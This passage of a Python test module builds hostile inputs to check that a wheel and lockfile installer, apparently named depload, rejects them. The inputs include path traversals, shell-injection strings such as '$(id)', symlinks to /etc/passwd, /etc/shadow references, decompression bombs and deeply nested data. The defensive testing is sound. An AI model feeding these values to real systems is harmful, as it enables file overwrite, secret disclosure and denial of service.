        f"a size of {size!a}, a hash of {str(sha256)[:9]!a}": _LOCK
        + b"wheels = "
        + toml([{"name": _WHL, "url": "https://h/x", "size": size, "hashes": {"sha256": sha256}}])
        for size, sha256 in itertools.product((-1, 0, 2**62, "1", True), ("", "0", "0" * 64, "Z" * 64, 0, ["a"]))
    },
    **{
        f"a package called {name[:20]!a}": b"lock-version = '1.0'\npackages = "
        + toml([{"name": name, "sdist": {"path": "x"}}])
        for name in ("", "..", "a/b", "x" * 300, "\0", "é", "a b", "-", "\x1b[2J")
    },
    "a wheel of a million tags": _LOCK
    + b"wheels = "
    + toml([{"name": "alpha-1-" + "-".join(["x." * 300 + "x"] * 3) + ".whl", "url": "https://h/x"}]),
    "a Python of 5,000 digits": b"lock-version = '1.0'\nrequires-python = '>=" + DIGITS + b"'\npackages = []\n",
    "a version of 5,000 digits": b"lock-version = '" + DIGITS + b"'\npackages = []\n",
    "keys of 20,000 parts": b"a." * 20_000 + b"b = 1\n",
    "quoted keys of 20,000 parts": b'"a.b c".' * 20_000 + b"b = 1\n",
    "a table of 20,000 parts": b"[" + b"a." * 20_000 + b"b]\n",
    "nested 100,000 deep": b"a = " + b"[" * 100_000,
    "tables nested 100,000 deep": b"a = " + b"{a=" * 100_000,
    "a number of 5,000 digits": b"a = " + DIGITS,
    "a date that is none": b"a = 9999-99-99T99:99:99\n",
    "a string that never ends": b"a = '''" + b"x\n" * 50_000,
    "escapes of nothing": b'a = "\\UFFFFFFFF"\n',
    "bytes that are no text": b"\xff\xfe" * 100,
    "carriage returns": b"a = 1\r" * 10_000,
    "no packages": b"lock-version = '1.0'\n",
    "packages of all types": b"lock-version = '1.0'\npackages = [1, 'a', [], {}, 1.5, true, 1979-05-27]\n",
}


# --- wheelhouses --------------------------------------------------------------------------------------

_SOUND = zips.manifest_of(targets.SOUND)
VALUES = [
    "../x",
    "/etc/x",
    "a/b",
    "",
    "x" * 300,
    "\0",
    "\n; id\n",
    "$(id)",
    "\x1b[2J",
    "..",
    "a b",
    5,
    None,
    [],
    {},
    True,
]


def _lies() -> Iterator[tuple[str, Any]]:
    """Manifests that say something else, their digest right for what they say wherever one can be made."""
    for key in _SOUND:
        yield f"{key} is not there", {each: value for each, value in _SOUND.items() if each != key}
        for value in VALUES:
            yield f"{key} is {value!a:.20}", {**_SOUND, key: value}
    for key in _SOUND["wheels"][0]:
        for value in (*VALUES, -1, 1 << 70, "0" * 64):
            row = {**_SOUND["wheels"][0], key: value}
            yield f"a wheel's {key} is {value!a:.20}", zips.manifest_of({}, wheels=[row])
    for python, platform in (
        ("3.11", "p\nalpha.whl " + "0" * 64),
        ("3.11\nx", "p"),
        ("3.11 p", ""),
        ("../x", "p"),
        (3, "p"),
    ):
        yield (
            f"a target of {python!a} {platform!a:.12}",
            zips.manifest_of(targets.SOUND, target={"python": python, "platform": platform}),
        )
    for digest in ("../../escaped", "/etc/x", "0" * 64, "", ".", "a/b", "\0", 5, None, ["x"], _SOUND["digest"].upper()):
        yield f"a digest {digest!a:.20}", {**_SOUND, "digest": digest}
    row = _SOUND["wheels"][0]
    yield (
        "a wheel listed as bytecode",
        zips.manifest_of({}, bytecode=[{key: row[key] for key in ("filename", "sha256", "size")}]),
    )
    yield "a wheel twice", zips.manifest_of({}, wheels=[row, row])
    yield "a wheel that is not there", zips.manifest_of({"beta-1.0-py3-none-any.whl": b"x"})
    yield "the manifest as its own wheel", zips.manifest_of({}, wheels=[{**row, "filename": "manifest.json"}])


LIES: Mapping[str, Any] = dict(_lies())
_TEXTS = {
    "nothing": b"",
    "null": b"null",
    "a list": b"[]",
    "a number": b"1",
    "a number of 5,000 digits": DIGITS,
    "nested": b"[" * 100_000,
    "NaN": b"NaN",
    "a string": b'"x"',
    "UTF-16": json.dumps(_SOUND).encode("utf-16"),
    "no text": b"\xff\xff",
    "a lone surrogate": b'{"name": "\\ud800"}',
    "the same key twice": b'{"digest": "a", "digest": "b"}',
}

MANIFEST: dict[str, Input] = {
    **{f"a manifest that is {what}": b"j" + text for what, text in _TEXTS.items()},
    **{what: b"j" + json.dumps(lie).encode() for what, lie in LIES.items()},
    "no manifest": zips.ordinary({"a": b""}),
    "a manifest that is a folder": zipped(Member("manifest.json/", b"")),
    "two manifests": zipped(Member("manifest.json", b"{}"), Member("manifest.json", json.dumps(_SOUND).encode())),
    "an encrypted manifest": zipped(Member("manifest.json", flags=1)),
    "a manifest by bzip2": zips.ordinary({"manifest.json": json.dumps(_SOUND).encode()}, zipfile.ZIP_BZIP2),
    "a manifest by LZMA": zips.ordinary({"manifest.json": json.dumps(_SOUND).encode()}, zipfile.ZIP_LZMA),
    "wheels that share their data": zipped(
        Member("manifest.json", json.dumps(_SOUND).encode()), *(Member(f"{at}.whl", at=0) for at in range(300))
    ),
    "no zip": b"hello",
}

ACTIVATION: dict[str, Input] = {
    **{f"a manifest that is {what}": b"j" + text for what, text in _TEXTS.items()},
    **{what: b"j" + json.dumps(lie).encode() for what, lie in LIES.items()},
    **{f"a wheel with {name[:24]!a}": b"w" + zips.wheel(more=[Member(name)]) for name in TRAVERSALS},
    **{
        f"a wheel with purelib/{name[:20]!a}": b"w" + zips.wheel(more=[Member(f"a.data/purelib/{name}")])
        for name in TRAVERSALS
    },
    **{
        f"a wheel with a {what}": b"w" + zips.wheel(more=[Member("x", b"/etc/passwd", mode=kind | 0o777)])
        for what, kind in SPECIAL.items()
    },
    **{
        f"a wheel with {name}": b"w" + zips.wheel(more=[Member(name, b"{}")])
        for name in (
            ".depload.json",
            "a.data/data/.depload.json",
            "a.data/purelib/.depload.json",
            ".DEPLOAD.json",
            "x.lock",
            "x.use",
            "a.data/scripts/../x",
        )
    },
    "a link, and a member below it": b"w"
    + zips.wheel(more=[Member("l", b"/etc", mode=stat.S_IFLNK | 0o777), Member("l/passwd")]),
    "a file and a folder of one name": b"w" + zips.wheel(more=[Member("a"), Member("a/b")]),
    "a member twice": b"w" + zips.wheel(more=[Member("a", b"1"), Member("a", b"2")]),
    "a member that is encrypted": b"w" + zips.wheel(more=[Member("a", flags=1)]),
    "a member by Deflate64": b"w" + zips.wheel(more=[Member("a", method=9)]),
    "a member whose checksum is wrong": b"w" + zips.wheel(more=[Member("a", crc=1)]),
    "a member of more than it says": b"w"
    + zips.wheel(more=[Member("a", bytes(9), DEFLATED, packed=zips.deflated(bytes(9 * MIB)))]),
    "a member of less than it says": b"w" + zips.wheel(more=[Member("a", size=1 << 20, method=DEFLATED)]),
    "a member far away": b"w" + zips.wheel(more=[Member("a", at=1 << 31)]),
    "members that share their data": lambda: b"w" + zips.fifield(200, 4 * MIB),
    "a wheel that is no zip": b"wnothing",
    "a wheel cut short": b"w" + zips.wheel({"a": bytes(999)})[:-30],
    "a wheel of 16 EB": b"w" + _zip64((1 << 64) - 1, (1 << 64) - 1, 0),
    "a wheel that is deflated in the wheelhouse": zipped(
        Member("manifest.json", json.dumps(_SOUND).encode()),
        *(Member(name, data, DEFLATED) for name, data in targets.SOUND.items()),
    ),
    "a wheel that is another": zips.wheelhouse({name: data + b"x" for name, data in targets.SOUND.items()}, _SOUND),
    "a wheel of the right size that is another": zips.wheelhouse(
        {name: data[:-1] + b"x" for name, data in targets.SOUND.items()}, _SOUND
    ),
    "wheels that are not there": zips.wheelhouse({}, _SOUND),
    **{
        f"a reference to {what}": b"r" + text
        for what, text in {
            "nothing": b"",
            "null": b"null",
            "a list": b"[]",
            "a device": b'{"path": "/dev/zero", "size": 0}',
            "a folder": b'{"path": "/", "size": 4096}',
            "a secret": b'{"path": "/etc/shadow", "size": 1}',
            "a NUL": b'{"path": "a\\u0000b", "size": 1}',
            "a long name": b'{"path": "' + b"x" * 9000 + b'", "size": 1}',
            "another type": b'{"path": 5, "size": "x"}',
            "itself": b'{"path": "reference.json"}',
            "nested": b"[" * 100_000,
        }.items()
    },
    "no zip": b"hello",
    "no manifest": zips.ordinary({"a": b""}),
}

CASES: dict[str, dict[str, Input]] = {
    "archive": ARCHIVE,
    "detection": DETECTION,
    "requirements": REQUIREMENTS,
    "wheels": WHEELS,
    "lock": LOCK,
    "manifest": MANIFEST,
    "activation": ACTIVATION,
}


def data_of(case: Input) -> bytes:
    """The input itself; the heavy ones are made when they are needed."""
    return case if isinstance(case, bytes) else case()
